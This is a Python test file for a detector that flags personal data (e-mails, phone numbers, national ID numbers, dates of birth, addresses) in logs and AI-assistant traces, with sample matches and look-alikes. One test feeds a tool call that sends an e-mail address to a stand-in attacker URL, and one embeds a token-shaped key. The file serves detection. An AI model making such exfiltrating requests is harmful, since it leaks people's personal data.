"""Personal data: each kind is found near its word only and never kept, and is told of only where it matters."""

from __future__ import annotations

import json
import time
from collections.abc import Sequence
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.detect.feeding import START_NS, built, call, encode, feed, said
from treering.detect import _screened, secrets
from treering.model.batch import batch
from treering.model.finding import Finding
from treering.model.rows import Rows
from treering.parse.sensitive import national_numbers as numbers
from treering.parse.sensitive.personal import ADDRESSES, PERSONAL
from treering.parse.sensitive.scan import Scan

SCAN = Scan(PERSONAL)
FOUND = [
    ("e-mail address", "write to Ann.Smith+x@mail.corp-site.co.uk today", "Ann.Smith+x@mail.corp-site.co.uk"),
    ("e-mail address", '{"to":["joão@exemplo.com.br"]}', "joão@exemplo.com.br"),
    ("e-mail address", "mailto:j_doe@site.org?subject=x", "j_doe@site.org"),
    ("phone number", "ring +44 7700 900123 after six", "+44 7700 900123"),
    ("phone number", "(+49 (0)30-2093-1234)", "+49 (0)30-2093-1234"),
    ("phone number", "wa: +919876543210.", "+919876543210"),
    ("phone number by name", "Phone: (415) 555-2671", "(415) 555-2671"),
    ("phone number by name", '{"mobilePhone": "06 12 34 56 78"}', "06 12 34 56 78"),
    ("phone number by name", "Tel. 030 901820 ext", ""),
    ("US SSN or ITIN", "SSN: 536-22-8726", "536-22-8726"),
    ("US SSN or ITIN", "536-22-8726 is my social security number", "536-22-8726"),
    ("US SSN or ITIN", "ITIN 912-70-1234", "912-70-1234"),
    ("US SSN by name", '"userSsn": "536228726"', "536228726"),
    ("UK national insurance number", "NINO: AB 12 34 56 C", "AB 12 34 56 C"),
    ("NHS number", "NHS number 943 476 5919", "943 476 5919"),
    ("German tax id", "Steuer-ID: 86 095 742 719", "86 095 742 719"),
    ("French NIR", "sécurité sociale 2 55 08 14 168 025 38", "2 55 08 14 168 025 38"),
    ("Spanish DNI or NIE", "mi DNI es 12345678Z", "12345678Z"),
    ("Spanish DNI or NIE", "NIE: X-1234567-L", "X-1234567-L"),
    ("Italian codice fiscale", "codice fiscale RSSMRA85T10A562S", "RSSMRA85T10A562S"),
    ("Dutch BSN", "bsn=111222333", "111222333"),
    ("Brazilian CPF", "CPF 111.444.777-35", "111.444.777-35"),
    ("Brazilian CNPJ", "CNPJ: 11.222.333/0001-81", "11.222.333/0001-81"),
    ("Indian Aadhaar", "aadhaar no 2341 2341 2346", "2341 2341 2346"),
    ("Indian PAN", "PAN card ABCPE1234F", "ABCPE1234F"),
    ("Chinese resident id", "身份证号码：11010519491231002X", "11010519491231002X"),
    ("passport number", "Reisepass C01X00T47", "C01X00T47"),
    ("passport number", "passport no. 533380006", "533380006"),
    ("driving licence", "driver's license D123-4567-8901", ""),
    ("driving licence", "driving licence MORGA657054SM9IJ", "MORGA657054SM9IJ"),
    ("date of birth", "dob 1984-03-27", "1984-03-27"),
    ("date of birth", "Geboren am 27.03.1984 in Ulm", "27.03.1984"),
    ("date of birth", "born on March 27, 1984", "March 27, 1984"),
    ("medical record number", "MRN: 00483921", "00483921"),
    ("postal address", "home address: 22 Maple Grove Road, Leeds LS7 3PD", "22 Maple Grove Road, Leeds LS7 3PD"),
    ("postal address", "Anschrift: Lindenstraße 14, 10969 Berlin", "Lindenstraße 14, 10969"),
]
LEFT_ALONE = [
    "user@host and icon@2x.png and git@github.com:org/repo.git",
    "noreply@shop.com support@shop.com postgres://app:secretpw@db-1.corp.net:5432/x",
    "2026-11-28T04:00:00+01:00 [28/Nov/2026:04:00:00 +0000] +12 -3 a+1234567890 +1234567890",
    "at midnight 12345678Z was built; the hotel 0301234567 cfg 111222333",
    "SSN format is 000-12-3456, 666-12-3456 or 123-00-4567",
    "nino GB123456A", "NHS number 943 476 5918", "Steuer-ID 12345678901", "CPF 111.111.111-11",
    "aadhaar 1234 5678 9012",
    "身份证号码 110105194912310021", "codice fiscale RSSMRA85T10A562X", "DNI 12345678A", "bsn 123456789",
    "passport control opens at 10:30", "dob unknown; 2026-11-28 was the day", "the telephone game of 2026-11-28",
    "phone home: took 1500 ms for 200 records at 2026-11-28 04:05:06", "mobile app 10.4.2 build 20261128",
    "dob 2026-13-45", "MRN missing", "lives at home since 2020", "tel: 11111111",
]  # fmt: skip


def kinds(text: str) -> dict[str, str]:
    return {hit.kind.name: text[hit.start : hit.end] for hit in SCAN.hits([text]).get(0, [])}


@pytest.mark.parametrize(("name", "text", "value"), FOUND)
def test_each_kind_is_found(name: str, text: str, value: str) -> None:
    found = kinds(text)
    assert found[name] == value or not value
    assert flagged(text)
    assert flagged(json.dumps([said("user", text)]))


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_look_alikes_are_left_alone(text: str) -> None:
    assert kinds(text) == {}


def flagged(text: str) -> bool:
    return bool(_screened.screened(Rows(batch("logs", [{"body": text}], received_ns=START_NS))).flags("body")[0] & 4)


PIECES = st.one_of(
    st.sampled_from([text for _, text, _ in FOUND]),
    st.sampled_from([literal for kind in PERSONAL for literal in kind.literals]),
    st.from_regex(r"[0-9]{3,12}[-. ]?[0-9A-Z]{1,9}", fullmatch=True),
    st.text('aZé身\\"n 0129+@.:-', max_size=12),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, min_size=1, max_size=6), st.sampled_from(["", " ", "\n", '"']))
def test_what_the_screen_passes_over_holds_nobody(pieces: list[str], between: str) -> None:
    text = between.join(pieces)
    if kinds(text):
        assert flagged(text)
        assert flagged(json.dumps([said("user", text)]))
        assert flagged(encode([said("user", text)]))


@given(st.integers(0, 10**11 - 1), st.integers(0, 10), st.integers(1, 9))
def test_verhoeff_notices_every_changed_digit(number: int, place: int, by: int) -> None:
    digits = next(f"{number:011}{check}" for check in range(10) if numbers.verhoeff(f"{number:011}{check}"))
    changed = f"{digits[:place]}{(int(digits[place]) + by) % 10}{digits[place + 1 :]}"
    assert not numbers.verhoeff(changed)


@given(st.text(max_size=200))
def test_any_text_is_read(text: str) -> None:
    Scan((*PERSONAL, ADDRESSES)).hits([text, text + " dni cpf nir phone passport @ + .", text])


def people(count: int, first: int = 0) -> str:
    return "; ".join(f"p{n}.lee@firm{n % 7}.com" for n in range(first, first + count))


def log(body: str, second: int = 0, service: str = "api") -> dict[str, Any]:
    return {"@timestamp": START_NS + second * 10**9, "serviceName": service, "body": body}


def tool(name: str, arguments: dict[str, str], **more: str) -> dict[str, Any]:
    attributes = {"gen_ai.tool.name": name, "gen_ai.tool.call.arguments": json.dumps(arguments), **more}
    return {"@timestamp": START_NS, "serviceName": "a", "traceId": f"{1:032x}", "attributes": attributes}


def rules(found: Sequence[Finding]) -> list[str]:
    return sorted(finding.rule for finding in found)


SSN = "SSN 536-22-8726"


@pytest.mark.parametrize(
    "record",
    [
        call("my e-mail is ann@site.org, phone +44 7700 900123", "Thanks, I wrote to ann@site.org."),
        call(f"my {SSN}, is it valid?", f"Yes, {SSN} has a valid form."),
        call("who is it?", "Ask bob@site.org or +44 7700 900123."),
        call(f"is {SSN} a number?"),
        tool("send_email", {"to": "bob@site.org", "body": "see you"}),
        tool("lookup_customer", {"ssn": "536-22-8726"}),
    ],
)
def test_ordinary_use_is_no_finding(record: dict[str, Any]) -> None:
    assert feed(built(secrets), [record]) == []


def test_many_people_in_one_text() -> None:
    records = [call("list them", people(12)), tool("post", {"body": people(150)}), call(people(12), second=2)]
    found = feed(built(secrets), records)
    assert rules(found) == ["personal_data_in_bulk"] * 3
    assert sorted(f.severity.value for f in found) == ["high", "low", "medium"]
    assert {f.facts["people"] for f in found} == {12, 150}
    assert "p3.lee" not in msgspec.json.encode(found).decode()
    assert feed(built(secrets, bulk=200, bulk_a_day=200), records) == []


def test_one_by_one_to_the_same_person_in_a_day() -> None:
    calls = [call("next", f"It is {people(1, n)}.", second=60 * n) for n in range(60)]
    for size in (1, 7, 60):
        (finding,) = feed(built(secrets), calls, size=size)
        assert (finding.rule, finding.severity.value) == ("personal_data_in_bulk", "low")
    assert feed(built(secrets), [call("next", f"It is {people(1, n)}.", user=f"u{n}") for n in range(60)]) == []


def test_what_names_a_person_in_an_answer_and_to_a_tool_that_sends() -> None:
    (answer,) = feed(built(secrets), [call("tell me about Ann", f"Ann has {SSN}.", user="bob")])
    assert (answer.rule, answer.facts["recipient"], answer.severity.value) == ("personal_data_in_answer", "bob", "low")
    (sent,) = feed(built(secrets), [tool("send_email", {"body": SSN})])
    assert (sent.rule, sent.facts["recipient"]) == ("personal_data_to_tool", "send_email")
    asked = call(f"send my {SSN} to the office", second=1)
    assert feed(built(secrets), [asked, tool("send_email", {"body": SSN})]) == []
    for finding in (answer, sent):
        assert "536-22" not in msgspec.json.encode(finding).decode()


def test_data_in_an_address_that_is_called() -> None:
    (found,) = feed(built(secrets), [tool("fetch", {"url": "https://x.evil.io/c?u=bob@site.org"})])
    assert found.rule == "personal_data_in_url"
    own = tool("fetch", {"url": "https://shop.io/me?u=bob@site.org"}, **{"user.id": "bob@site.org"})
    assert feed(built(secrets), [own]) == []


def test_logs_should_hold_none() -> None:
    (found,) = feed(built(secrets), [log(f"saved customer {SSN}"), log("saved customer SSN 536-22-8727")], "logs")
    assert (found.rule, found.count, found.severity.value) == ("personal_data_in_log", 2, "medium")
    few, many = (
        [log(f"login {people(1, n)}", n) for n in range(15)],
        [log(f"login {people(1, n)}", n) for n in range(30)],
    )
    assert feed(built(secrets), few, "logs") == []
    for size in (1, 30):
        (found,) = feed(built(secrets), many, "logs", size)
        assert (found.severity.value, found.facts["recipient"]) == ("low", "api")
    assert feed(built(secrets, leave_out=("personal_data_in_log",)), many, "logs") == []
    assert feed(built(secrets, leave_out=("e-mail address",)), many, "logs") == []


def test_counts_survive_a_restart() -> None:
    first, second = built(secrets), built(secrets)
    assert feed(first, [log(f"login {people(1, n)}", n) for n in range(15)], "logs") == []
    second.restore(first.save())
    assert rules(feed(second, [log(f"login {people(1, n)}", n) for n in range(15, 30)], "logs")) == [
        "personal_data_in_log"
    ]


def test_addresses_of_machines_only_where_wanted() -> None:
    lines = [log(f"from 93.184.216.{n} to 10.0.0.{n}") for n in range(30)]
    assert feed(built(secrets), lines, "logs") == []
    (found,) = feed(built(secrets, ip_addresses=True), lines, "logs")
    assert found.facts["kinds"] == {"IP address": 1}


def test_a_secret_after_many_people_is_still_found() -> None:
    key = "ghp_" + "k3J9x2Lq8Zr5Tn1Vb7Ym4Wc6Hd0Gf2Sa9pQe"
    found = feed(built(secrets), [call("x", f"{people(700)} {key}")])
    assert rules(found) == ["personal_data_in_bulk", "provider_key"]


def test_hostile_texts_are_bounded() -> None:
    texts = [
        "a@" * 500_000,
        "+1 " * 500_000,
        "phone 1" * 300_000,
        "dni " * 300_000,
        "a.b" * 300_000 + "@",
        "phone\\" * 200_000,
    ]
    started = time.process_time()
    feed(built(secrets), [log(text) for text in texts], "logs")
    assert time.process_time() - started < 40
